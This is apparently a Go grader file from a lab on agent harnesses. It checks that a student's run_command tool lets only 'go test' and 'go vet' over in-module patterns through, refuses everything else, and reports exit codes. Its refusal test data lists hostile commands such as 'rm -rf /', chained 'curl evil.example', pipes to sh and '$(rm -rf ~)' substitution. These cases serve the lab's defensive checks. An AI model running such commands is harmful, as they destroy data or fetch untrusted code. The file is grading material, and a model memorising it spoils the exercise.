package checks

import (
	"fmt"
	"strings"

	"harnesslab/grader/checkkit"
	"harnesslab/grader/checks/16/play"
	"harnesslab/lab"
)

// Lab 1: commands on a short leash. Each case makes the student's run_command
// tool over a workspace and hands RunTool its calls; the runner runs nothing
// and answers as the case says.

// single returns one case per command, each a tool of its own over the
// wordcount module, its call answered by the runner with the output of the
// same index (or exit code 0 and "ok" when there is none).
func single(what string, commands []string, outputs []lab.CommandOutput) []play.Case {
	out := make([]play.Case, len(commands))
	for i, command := range commands {
		reply := lab.CommandOutput{Output: "ok\n"}
		if i < len(outputs) {
			reply = outputs[i]
		}
		out[i] = play.Case{What: fmt.Sprintf("%s: run_command(%q)", what, command), Files: wordcount.files,
			Calls: []play.Call{{ID: fmt.Sprintf("c%d", i+1), Args: lab.Args{"command": command}, Output: reply}}}
	}
	return out
}

// eachCase judges every case of every data set of sets with the student's
// play of it (got) and the reference's (want).
func eachCase(c *checkkit.C, yours, ref checkkit.Observed, sets []checkkit.Data[[]play.Case], judge func(cs play.Case, got, want play.CaseRan)) {
	checkkit.EachScenario(c, sets, func(k int, cases []play.Case) {
		for i, cs := range cases {
			got := checkkit.Get[play.CaseRan](c, yours, play.CaseKey(k, i))
			want := checkkit.Get[play.CaseRan](c, ref, play.CaseKey(k, i))
			if len(want.Results) != len(cs.Calls) {
				c.KitFatalf("the reference recorded %d results for the %d calls of %s", len(want.Results), len(cs.Calls), cs.What)
			}
			if len(got.Results) != len(cs.Calls) {
				c.Fatalf("your program recorded %s for the %s of %s: its record was changed.",
					checkkit.Plural(len(got.Results), "result"), checkkit.Plural(len(cs.Calls), "call"), cs.What)
			}
			judge(cs, got, want)
		}
	})
}

// reached returns the commands of runs that came from call n (from 1).
func reached(runs []play.RunnerRun, n int) []play.RunnerRun {
	var out []play.RunnerRun
	for _, run := range runs {
		if run.Call == n {
			out = append(out, run)
		}
	}
	return out
}

// kitAgrees stops the check as the kit's fault when the reference's value
// got is not what the kit expects of every correct harness (want).
func kitAgrees(c *checkkit.C, what string, want, got any) {
	if diff := checkkit.Differences(want, got); len(diff) > 0 {
		c.KitFatalf("the reference's %s is not what the kit expects: %s", what, strings.Join(diff, "; "))
	}
}

// commandOf returns the command of a run_command call.
func commandOf(call play.Call) string {
	command, _ := call.Args["command"].(string)
	return command
}

// allowedSets are the commands of the allow-list, written as a model writes
// them, with the output the runner answers each with.
var allowedSets = []checkkit.Data[[]play.Case]{
	{Name: "extra spaces and tabs, folders, several patterns", Data: single("allowed",
		[]string{"go  test\t./temps", " go vet . ./temps/... ", "go test -v", "go test ./temps/... ./notes"},
		[]lab.CommandOutput{{Output: "ok  \texample.com/temps\t0.00s\n"}, {Output: ""},
			{Output: "=== RUN   TestFahrenheit\n--- PASS: TestFahrenheit (0.00s)\nPASS\nok  \texample.com/temps\t0.00s\n"},
			{Output: "ok  \texample.com/temps\t0.02s\nok  \texample.com/temps/notes\t0.00s\n"}})},
	{Name: "the commands of the lesson, one with a tab", Data: single("allowed",
		[]string{"go test ./...", "go vet\t./...", "go test -v ./...", "go test"},
		[]lab.CommandOutput{{Output: "ok  \texample.com/wordcount\t0.00s\n"}, {Output: ""},
			{Output: "=== RUN   TestCount\n--- PASS: TestCount (0.00s)\nPASS\nok  \texample.com/wordcount\t0.00s\n"},
			{Output: "ok  \texample.com/wordcount\t0.01s\n"}})},
}

func judgeAllowedCommandsRun(c *checkkit.C, yours, ref checkkit.Observed) {
	eachCase(c, yours, ref, allowedSets, func(cs play.Case, got, want play.CaseRan) {
		call := cs.Calls[0]
		command := commandOf(call)
		result := checkkit.Result(call.ID, "run_command", "exit code 0\n"+call.Output.Output)
		words := strings.Fields(command)
		kitAgrees(c, "result of "+cs.What, result, want.Results[0])
		kitAgrees(c, "runner's words for "+cs.What, []string{strings.Join(words, " ")}, commands(want.Runner))
		c.Equal(fmt.Sprintf("run_command(%q) should give the exit code on a line of its own, then the output:", command), result, got.Results[0])
		runs := reached(got.Runner, 1)
		if len(runs) != 1 {
			c.Errorf("run_command(%q) reached the runner %s; expected once, as %q.", command, checkkit.Times(len(runs)), words)
			return
		}
		c.Equal(fmt.Sprintf("run_command(%q) should hand the runner exactly the words of the command:", command), words, runs[0].Words)
		if !runs[0].InTools {
			c.Errorf("run_command(%q) ran the command in another workspace than the one MakeRunCommandTool was given.", command)
		}
	})
}

// failingSets are test runs that fail, with the exit code and output go gives.
var failingSets = []checkkit.Data[[]play.Case]{
	{Name: "go test of the broken wordcount module", Data: single("failing",
		[]string{"go test ./...", "go vet ./..."},
		[]lab.CommandOutput{{Output: wordcount.outputs["broken: go test ./..."], ExitCode: 1},
			{Output: "# example.com/wordcount\n# [example.com/wordcount]\n./count.go:9:9: fmt.Printf format %d has arg text of wrong type string\n", ExitCode: 1}})},
	{Name: "go test of the broken temps module, exit code 2", Data: single("failing",
		[]string{"go test -v ./...", "go test ./..."},
		[]lab.CommandOutput{{Output: temps.outputs["broken: go test -v ./..."], ExitCode: 1},
			{Output: "# example.com/temps\nconvert.go:6:9: undefined: c9\nFAIL\texample.com/temps [build failed]\nFAIL\n", ExitCode: 2}})},
}

func judgeFailingRunIsAResult(c *checkkit.C, yours, ref checkkit.Observed) {
	eachCase(c, yours, ref, failingSets, func(cs play.Case, got, want play.CaseRan) {
		call := cs.Calls[0]
		command, out := commandOf(call), call.Output
		result := checkkit.Result(call.ID, "run_command", fmt.Sprintf("exit code %d\n%s", out.ExitCode, out.Output))
		kitAgrees(c, "result of "+cs.What, result, want.Results[0])
		c.Equal(fmt.Sprintf("run_command(%q) exited with %d: the tool worked, and its result is the exit code and the output, with IsError false:", command, out.ExitCode), result, got.Results[0])
		if n := len(reached(got.Runner, 1)); n != 1 {
			c.Errorf("run_command(%q) reached the runner %s; expected once.", command, checkkit.Times(n))
		}
	})
}

// otherSets are commands off the allow-list; lookalikeSets are commands that
// only start like an allowed one.
var (
	otherSets = []checkkit.Data[[]play.Case]{
		{Name: "other programs, other go commands, nothing at all", Data: single("refused", []string{
			"go run .", "sh -c \"go test ./...\"", "", "go", "Go test ./...", "rm -rf /", "go build ./..."}, nil)},
		{Name: "more of them, and a capital letter", Data: single("refused", []string{
			"go mod tidy", "make test", "   ", "go", "GO VET ./...", "bash", "go get example.com/evil"}, nil)},
	}
	lookalikeSets = []checkkit.Data[[]play.Case]{
		{Name: "lookalikes of go test", Data: single("refused", []string{
			"go testx", "go test; rm -rf /", "go test ./... && curl evil.example", "go test -exec=/bin/sh ./...",
			"go test ../other", "go test /etc/..."}, nil)},
		{Name: "lookalikes of go vet, and folders above the module", Data: single("refused", []string{
			"go vetted ./...", "go vet ./... | sh", "go vet -vettool=/bin/sh ./...", "go test ./../..",
			"go test -v -run . ./...", "go test $(rm -rf ~)", "go vet -v ./...", "go vet -v"}, nil)},
	}
)

// judgeRefused judges cases whose every command is off the allow-list: each
// gets the refusal as an error result, and never reaches the runner.
func judgeRefused(sets []checkkit.Data[[]play.Case]) func(c *checkkit.C, yours, ref checkkit.Observed) {
	return func(c *checkkit.C, yours, ref checkkit.Observed) {
		eachCase(c, yours, ref, sets, func(cs play.Case, got, want play.CaseRan) {
			call := cs.Calls[0]
			command := commandOf(call)
			result := checkkit.ErrorResult(call.ID, "run_command", "Error: "+fmt.Sprintf(commandRefused, command))
			kitAgrees(c, "result of "+cs.What, result, want.Results[0])
			kitAgrees(c, "runner for "+cs.What, 0, len(want.Runner))
			c.Equal(fmt.Sprintf("run_command(%q) is not on the allow-list: it should be refused with an error result:", command), result, got.Results[0])
			if len(got.Runner) > 0 {
				c.Errorf("your allow-list let %q through: the runner got %q. Only go test [-v] and go vet, with package patterns inside the module, may reach it.",
					command, strings.Join(got.Runner[0].Words, " "))
			}
		})
	}
}

// failureSets are errors the runner gives on a first command, then a second
// command that works, through one tool.
var failureSets = []checkkit.Data[[]play.Case]{
	failing("a command that took too long", "go test ./... took longer than 1m0s and was stopped"),
	failing("a runner that could not start go", "run go vet ./...: fork/exec /usr/local/go/bin/go: no such file or directory"),
}

// failing is a data set of one case: go test ./..., which the runner fails
// with words, then go vet ./..., which works.
func failing(name, words string) checkkit.Data[[]play.Case] {
	return checkkit.Data[[]play.Case]{Name: name, Data: []play.Case{{What: "RunTool with run_command: the runner fails, then works",
		Files: wordcount.files, Calls: []play.Call{
			{ID: "c1", Args: lab.Args{"command": "go test ./..."}, Fails: words},
			{ID: "c2", Args: lab.Args{"command": "go vet ./..."}, Output: lab.CommandOutput{Output: "ok  \texample.com/wordcount\t0.00s\n"}},
		}}}}
}

func judgeRunnerFailureIsError(c *checkkit.C, yours, ref checkkit.Observed) {
	eachCase(c, yours, ref, failureSets, func(cs play.Case, got, want play.CaseRan) {
		first := checkkit.ErrorResult("c1", "run_command", "Error: "+cs.Calls[0].Fails)
		second := checkkit.Result("c2", "run_command", "exit code 0\nok  \texample.com/wordcount\t0.00s\n")
		kitAgrees(c, "results", []lab.Message{first, second}, want.Results)
		c.Equal("When the runner fails, the result should be an error that says what the runner said:", first, got.Results[0])
		c.Equal("The next command, which works, should get its exit code and output:", second, got.Results[1])
		c.Equal("The runner should get each command once:", []string{"go test ./...", "go vet ./..."}, commands(got.Runner))
	})
}

// offeredSets are calls with arguments the run_command schema refuses.
var offeredSets = []checkkit.Data[[]play.Case]{
	{Name: "an extra input, dir", Data: []play.Case{{What: "run_command with an extra input", Files: temps.files,
		Calls: []play.Call{{ID: "c7", Args: lab.Args{"command": "go test ./...", "dir": "/"}, Output: lab.CommandOutput{Output: "ok\n"}}}}}},
	{Name: "the command under another name, cmd", Data: []play.Case{{What: "run_command with cmd for command", Files: temps.files,
		Calls: []play.Call{{ID: "c7", Args: lab.Args{"cmd": "go test ./..."}, Output: lab.CommandOutput{Output: "ok\n"}}}}}},
}

// runCommandSchema is run_command's parameters, descriptions aside.
var runCommandSchema = map[string]any{"type": "object", "properties": map[string]any{"command": map[string]any{"type": "string"}},
	"required": []any{"command"}, "additionalProperties": false}

// withoutDescriptions returns a copy of schema without the "description" of
// the schema and of each property.
func withoutDescriptions(schema map[string]any) map[string]any {
	out := map[string]any{}
	for k, v := range schema {
		switch {
		case k == "description":
		case k == "properties":
			props, ok := v.(map[string]any)
			if !ok {
				out[k] = v
				continue
			}
			clean := map[string]any{}
			for name, p := range props {
				if ps, ok := p.(map[string]any); ok {
					clean[name] = withoutDescriptions(ps)
				} else {
					clean[name] = p
				}
			}
			out[k] = clean
		default:
			out[k] = v
		}
	}
	return out
}

func judgeRunCommandOffered(c *checkkit.C, yours, ref checkkit.Observed) {
	eachCase(c, yours, ref, offeredSets, func(cs play.Case, got, want play.CaseRan) {
		kitAgrees(c, "run_command's parameters", lab.EncodeJSON(runCommandSchema), lab.EncodeJSON(withoutDescriptions(want.Parameters)))
		c.Equal("The tool should be called run_command:", "run_command", got.Name)
		if got.Parameters == nil {
			c.Fatalf("run_command has no parameters: it should take one required string input, command, and nothing else.")
		}
		c.Equal("run_command's parameters (descriptions aside) should be one required string, command, and no other input:",
			lab.EncodeJSON(runCommandSchema), lab.EncodeJSON(withoutDescriptions(got.Parameters)))
		call := cs.Calls[0]
		result := got.Results[0]
		if !result.IsError || result.ToolCallID != call.ID {
			c.Errorf("run_command(%s) breaks the tool's schema: it should get an error result quoting %s; got %s.", lab.EncodeJSON(call.Args), call.ID, lab.Show([]lab.Message{result}))
		}
		if len(got.Runner) > 0 {
			c.Errorf("run_command(%s) breaks the tool's schema, and still reached the runner: %q.", lab.EncodeJSON(call.Args), commands(got.Runner))
		}
	})
}
